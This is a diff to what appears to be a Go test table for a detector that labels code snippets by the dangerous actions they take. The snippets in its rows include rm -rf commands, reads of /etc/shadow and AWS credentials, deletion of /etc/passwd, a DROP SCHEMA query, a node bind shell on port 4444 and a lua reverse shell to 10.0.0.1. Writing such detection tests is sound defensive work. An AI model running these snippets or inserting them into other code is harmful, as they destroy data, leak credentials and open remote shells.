@@ -386,7 +386,9 @@ return /a/;})();`, []string{"sh: /bin/sh", "connect 10.0.0.1:4242", "download 10
 	{"node", `const r = /a"b/; require("fs").writeFileSync("/etc/x", "y")`, []string{"write /etc/x"}},
 	{"node", `/"/; require("child_process").exec("rm -rf /"); //"`, []string{"sh: rm -rf /"}},
 	{"node", `let a = b / c; let d = e / f; require("child_process").exec("id")`, []string{"sh: id"}},
-	{"node", `const s = "unterminated; require("child_process").exec(x)`, []string{"unknown"}},
+	// The string does not end, and exec's command is not literal: the
+	// runner is code run unread.
+	{"node", `const s = "unterminated; require("child_process").exec(x)`, []string{"unknown", "unknown"}},
 	{"node", `require("child_process")["exec"]("rm -rf /")`, []string{"sh: rm -rf /"}},
 	{"node", `const cp = require('child_process'); cp['\u0065xecSync']('reboot')`, []string{"sh: reboot"}},
 	{"node", `require('fs').unlinkSync('\u002fetc\u002fpasswd')`, []string{"delete /etc/passwd"}},
@@ -485,8 +487,11 @@ async def main():
 	{"node", `sh = require("child_process").spawn("/bin/sh"); require("net").createServer(function (c) { c.pipe(sh.stdin); sh.stdout.pipe(c); }).listen(4444)`,
 		[]string{"download :4444 | sh", "sh: /bin/sh"}},
 	{"lua", `local s=require("socket"); local t=assert(s.tcp()); t:connect("10.0.0.1",4444); while true do local r=t:receive(); local f=io.popen(r) end`,
-		[]string{"unknown", "download 10.0.0.1:4444 | sh"}},
+		[]string{"unknown", "download 10.0.0.1:4444 | sh", "unknown"}}, // io.popen(r): code run unread
 	{"lua", `print("hello")`, []string{"unknown"}},
+	// a language not parsed: its literal commands are still read
+	{"r", `system("rm -rf /srv")`, []string{"unknown", "run rm -rf /srv", "delete -r /srv"}},
+	{"r", `system2(cmd)`, []string{"unknown", "unknown"}},
 	{"ruby", `puts File.read(File.expand_path("~/.aws/credentials"))`, []string{"read /home/a/.aws/credentials"}},
 	{"node", `const path = require("path"); require("fs").readFileSync(path.join("/etc", "shadow"))`, []string{"read /etc/shadow"}},
 	{"python", `import psycopg2; psycopg2.connect("host=db").cursor().execute("DROP SCHEMA public CASCADE")`,
